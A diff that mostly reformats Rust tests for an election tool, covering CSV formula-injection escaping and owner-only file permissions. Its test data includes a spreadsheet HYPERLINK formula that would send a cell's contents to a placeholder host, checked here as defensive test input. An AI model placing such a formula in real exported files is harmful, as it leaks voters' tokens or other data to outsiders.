@@ -51,10 +51,17 @@ async fn tokens_csv_is_safe_to_open_in_a_spreadsheet(backend: Backend) {
     assert_eq!(rows.len(), 6, "{rows:?}");
     for row in &rows {
         for cell in row {
-            assert!(!starts_a_formula(cell), "a formula cell was written: {cell:?} in {row:?}");
+            assert!(
+                !starts_a_formula(cell),
+                "a formula cell was written: {cell:?} in {row:?}"
+            );
         }
     }
-    let by_name = |name: &str| rows.iter().find(|r| r[1] == name).unwrap_or_else(|| panic!("{name} in {rows:?}"));
+    let by_name = |name: &str| {
+        rows.iter()
+            .find(|r| r[1] == name)
+            .unwrap_or_else(|| panic!("{name} in {rows:?}"))
+    };
     let hyperlink = "=HYPERLINK(\"http://x/?\"&D2,\"x\")";
     let row = by_name(&format!("'{hyperlink}"));
     assert_eq!(row[0], format!("'{hyperlink}"));
@@ -63,10 +70,7 @@ async fn tokens_csv_is_safe_to_open_in_a_spreadsheet(backend: Backend) {
     assert_eq!((sum[0].as_str(), sum[2].as_str()), ("'@SUM(1)", "'+1@example.org"));
     assert_eq!(by_name("'-2")[0], "'-2");
     // Cells that start no formula are written as they are.
-    assert_eq!(
-        &by_name("Ada Lovelace")[..3],
-        ["M5", "Ada Lovelace", "ada@example.org"]
-    );
+    assert_eq!(&by_name("Ada Lovelace")[..3], ["M5", "Ada Lovelace", "ada@example.org"]);
 
     // The codes in the file still work.
     app.teller_ok(&["election", "open", &id]);
@@ -137,13 +141,28 @@ fn files_holding_personal_data_or_secrets_are_owner_only() {
         ("TELLER_MASTER_SECRET_FILE", key.as_path()),
     ];
     let toml = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/board-election.toml");
-    let out = run_ok(teller_under_open_umask(&["election", "create", toml.to_str().unwrap()], &env));
-    let id = String::from_utf8(out.stdout).unwrap().trim().lines().last().unwrap().to_string();
+    let out = run_ok(teller_under_open_umask(
+        &["election", "create", toml.to_str().unwrap()],
+        &env,
+    ));
+    let id = String::from_utf8(out.stdout)
+        .unwrap()
+        .trim()
+        .lines()
+        .last()
+        .unwrap()
+        .to_string();
     let roll = dir.path().join("members.csv");
     std::fs::write(&roll, common::roll_csv(3)).unwrap();
-    run_ok(teller_under_open_umask(&["voters", "import", &id, roll.to_str().unwrap()], &env));
+    run_ok(teller_under_open_umask(
+        &["voters", "import", &id, roll.to_str().unwrap()],
+        &env,
+    ));
     let tokens = dir.path().join("tokens.csv");
-    run_ok(teller_under_open_umask(&["tokens", "issue", &id, "--out", tokens.to_str().unwrap()], &env));
+    run_ok(teller_under_open_umask(
+        &["tokens", "issue", &id, "--out", tokens.to_str().unwrap()],
+        &env,
+    ));
     for file in [&key, &db, &tokens] {
         assert_eq!(mode(file), 0o600, "{}", file.display());
     }
@@ -183,7 +202,13 @@ fn files_holding_personal_data_or_secrets_are_owner_only() {
         assert!(running.is_ok(), "the demo did not start in {:?}", started.elapsed());
         assert_eq!(mode(&parent), 0o700);
         assert_eq!(mode(&data), 0o700);
-        for name in ["teller.db", "teller.db-wal", "teller.db-shm", "master.key", "tokens.csv"] {
+        for name in [
+            "teller.db",
+            "teller.db-wal",
+            "teller.db-shm",
+            "master.key",
+            "tokens.csv",
+        ] {
             assert_eq!(mode(&data.join(name)), 0o600, "{name}");
         }
     });
